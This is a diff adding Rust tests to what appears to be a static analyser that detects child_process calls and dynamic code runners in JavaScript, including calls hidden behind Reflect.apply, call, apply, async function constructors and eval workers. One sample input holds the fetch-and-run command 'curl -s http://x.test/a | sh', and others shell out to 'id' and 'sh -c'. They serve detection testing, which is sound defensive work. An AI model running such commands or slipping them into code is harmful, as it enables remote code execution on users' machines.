@@ -134,3 +134,43 @@ fn eval_of_joined_literals_is_analysed_but_not_decoded_code() {
     assert!(has_module(&f, "child_process"), "{f:?}");
     assert!(!f.decoded_code.is_empty());
 }
+
+fn call_paths(f: &JsFacts) -> Vec<&str> {
+    f.calls.iter().map(|c| c.path.as_str()).collect()
+}
+
+#[test]
+fn calls_through_reflect_apply_call_and_apply_resolve_to_their_target() {
+    let f = facts(
+        "const cp = require('child_process'); Reflect.apply(cp.exec, null, ['curl -s http://x.test/a | sh']); cp.execSync.call(null, 'id'); cp.spawn.apply(cp, ['sh', ['-c', 'x']]);",
+    );
+    let exec = f.calls.iter().find(|c| c.path == "child_process.exec");
+    assert_eq!(
+        exec.and_then(|c| c.arg_lit(0)),
+        Some("curl -s http://x.test/a | sh")
+    );
+    assert!(call_paths(&f).contains(&"child_process.execSync"));
+    assert!(call_paths(&f).contains(&"child_process.spawn"));
+    let plain = facts(
+        "const has = Object.prototype.hasOwnProperty; has.call(o, 'k'); fn.apply(null, [1]);",
+    );
+    assert!(
+        !call_paths(&plain)
+            .iter()
+            .any(|p| p.starts_with("child_process"))
+    );
+}
+
+#[test]
+fn async_function_constructor_and_eval_workers_are_code_runners() {
+    let f = facts(
+        "const AF = Object.getPrototypeOf(async function () {}).constructor; new AF('a', body)(1); const { Worker } = require('worker_threads'); new Worker(src, { eval: true });",
+    );
+    assert!(call_paths(&f).contains(&"Function"), "{:?}", call_paths(&f));
+    assert!(call_paths(&f).contains(&"worker_threads.Worker(eval)"));
+    let plain = facts(
+        "const { Worker } = require('worker_threads'); new Worker(require('path').join(__dirname, 'w.js')); Object.getPrototypeOf(o).toString();",
+    );
+    assert!(!call_paths(&plain).contains(&"worker_threads.Worker(eval)"));
+    assert!(!call_paths(&plain).contains(&"Function"));
+}
